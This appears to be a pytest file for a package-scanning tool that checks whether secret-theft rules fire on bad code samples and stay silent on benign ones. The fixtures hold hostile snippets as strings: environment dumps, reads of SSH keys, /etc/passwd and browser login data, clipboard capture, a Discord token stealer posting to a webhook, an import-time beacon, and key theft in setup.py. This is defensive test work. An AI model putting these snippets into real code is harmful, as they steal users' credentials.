"""Secrets rules: environment dumps, credential files, browser/messenger/wallet data, clipboard, sending secrets."""

from __future__ import annotations

from pathlib import Path

import pytest

from jupyter_safepip.core.model import Severity
from tests.support.archives import scan_sdist, scan_wheel, severity

CASES = [
    (
        "secrets-env-dump",
        "import json, os\nblob = json.dumps(dict(os.environ))\n",
        "import os, subprocess\nenv = dict(os.environ)\nenv['X'] = '1'\nsubprocess.run(['x'], env=env)\n",
    ),
    (
        "secrets-env-dump",
        "import os\ntext = '\\n'.join(f'{k}={v}' for k, v in os.environ.items())\n",
        "import os\nmine = {k: v for k, v in os.environ.items() if k.startswith('DEMO_')}\n",
    ),
    ("secrets-credentials", "import os\np = os.path.expanduser('~/.ssh/id_rsa')\n", "import os\np = os.path.expanduser('~/.config/demo')\n"),
    (
        "secrets-browser-messenger",
        "import os\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data')\n",
        "import os\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Demo\\\\cache')\n",
    ),
    ("secrets-system-files", "data = open('/etc/passwd').read()\n", "data = open('/etc/hosts').read()\n"),
    ("secrets-clipboard", "import pyperclip\ntext = pyperclip.paste()\n", "import pyperclip\n"),
    (
        "secrets-sent",
        "import requests\ndef f(private_key):\n    requests.post('https://example.invalid/k', json={'key': private_key})\n",
        "import requests\ndef f(query):\n    requests.post('https://example.invalid/q', json={'q': query})\n",
    ),
]


@pytest.mark.parametrize(("rule", "bad", "good"), CASES)
def test_rule_fires_on_bad_and_not_on_good(tmp_path: Path, rule: str, bad: str, good: str) -> None:
    assert severity(scan_wheel(tmp_path / "bad", {"demo/mod.py": bad}), rule) is not None
    assert severity(scan_wheel(tmp_path / "good", {"demo/mod.py": good}), rule) is None


def test_stealer_combination_blocks(tmp_path: Path) -> None:
    code = (
        "import os, requests\n"
        "def grab():\n"
        "    p = os.path.join(os.getenv('APPDATA'), 'discord\\\\Local Storage\\\\leveldb')\n"
        "    requests.post('https://discord.com/api/webhooks/1/x', data=open(p).read())\n"
    )
    scan = scan_wheel(tmp_path, {"demo/mod.py": code})
    assert severity(scan, "combined-stealer") is Severity.HIGH


def test_import_time_beacon(tmp_path: Path) -> None:
    code = (
        "import socket, getpass, urllib.request\n"
        "def ping():\n"
        "    urllib.request.urlopen('https://example.invalid/?h=' + socket.gethostname() + getpass.getuser())\n"
        "ping()\n"
    )
    assert severity(scan_wheel(tmp_path / "a", {"demo/__init__.py": code}), "combined-beacon") is Severity.HIGH
    lazy = code.replace("ping()\n", "")
    assert severity(scan_wheel(tmp_path / "b", {"demo/__init__.py": lazy}), "combined-beacon") is None


def test_ssh_keys_at_install_time_are_high(tmp_path: Path) -> None:
    setup = "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nfrom setuptools import setup\nsetup()\n"
    assert severity(scan_sdist(tmp_path, {"setup.py": setup}), "secrets-credentials") is Severity.HIGH
